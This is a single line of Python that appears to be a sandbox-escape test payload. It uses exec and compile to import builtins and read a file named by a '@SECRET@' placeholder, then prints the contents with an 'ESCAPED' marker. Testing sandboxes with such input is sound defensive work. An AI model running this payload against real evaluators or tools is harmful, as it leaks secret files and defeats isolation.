exec(compile("import builtins; print('ESCAPED', builtins.open('@SECRET@').read())", "x", "exec"))
